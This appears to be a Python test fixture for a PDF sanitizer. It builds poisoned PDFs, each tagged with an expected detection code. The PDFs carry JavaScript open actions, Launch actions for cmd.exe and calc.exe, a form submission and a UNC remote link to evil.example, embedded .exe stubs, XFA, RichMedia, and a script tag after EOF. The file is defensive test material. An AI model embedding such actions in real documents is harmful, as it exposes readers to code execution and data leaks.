"""Hostile PDFs: written by reportlab, poisoned by pikepdf."""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

from tests.unit.sanitize.sanitize_sample import WORDS, Sample

pdfmetrics.registerFont(UnicodeCIDFont("HeiseiMin-W3"))


def plain():
    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.setFont("HeiseiMin-W3", 14)
    canvas.drawString(72, 700, WORDS)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


def poisoned(change):
    with pikepdf.open(io.BytesIO(plain())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def action(kind, **more):
    return Dictionary(Type=Name.Action, S=Name(kind), **more)


SCRIPT = action("/JavaScript", JS=String("app.alert(1)"))


def annotation(pdf, subtype, **more):
    note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]), **more)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])


def attach(pdf):
    pdf.attachments["a.exe"] = b"MZ\0\0"


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def names(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))


def page_actions(pdf):
    pdf.pages[0].AA = Dictionary(O=SCRIPT)


def field_actions(pdf):
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=SCRIPT))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def chained(pdf):
    first = action(
        "/GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=action("/Launch", F=String("calc.exe"))
    )
    annotation(pdf, "/Link", A=first)


def attached_note(pdf):
    spec = Dictionary(
        Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ"))
    )
    annotation(pdf, "/FileAttachment", FS=spec)


def samples():
    def set_open(value):
        return lambda pdf: pdf.Root.__setitem__("/OpenAction", value)

    def link(**more):
        return lambda pdf: annotation(pdf, "/Link", **more)

    rows = {
        "javascript": (set_open(SCRIPT), "pdf_action"),
        "names": (names, "pdf_javascript"),
        "launch": (set_open(action("/Launch", F=String("cmd.exe"))), "pdf_action"),
        "page-action": (page_actions, "pdf_action"),
        "field-action": (field_actions, "pdf_action"),
        "submit": (link(A=action("/SubmitForm", F=String("http://evil.example"))), "pdf_action"),
        "remote": (link(A=action("/GoToR", F=String("\\\\evil.example\\a.pdf"))), "pdf_action"),
        "uri": (link(A=action("/URI", URI=String("http://evil.example/"))), "link_defanged"),
        "chained": (chained, "pdf_action"),
        "embedded": (attach, "pdf_embedded"),
        "attached-note": (attached_note, "pdf_embedded"),
        "richmedia": (lambda pdf: annotation(pdf, "/RichMedia"), "pdf_media"),
        "xfa": (xfa, "pdf_xfa"),
    }
    for name, (change, code) in rows.items():
        yield Sample(f"{name}.pdf", poisoned(change), code)
    yield Sample("tail.pdf", plain() + b"\n%%EOF\n<script>alert(1)</script>", "")
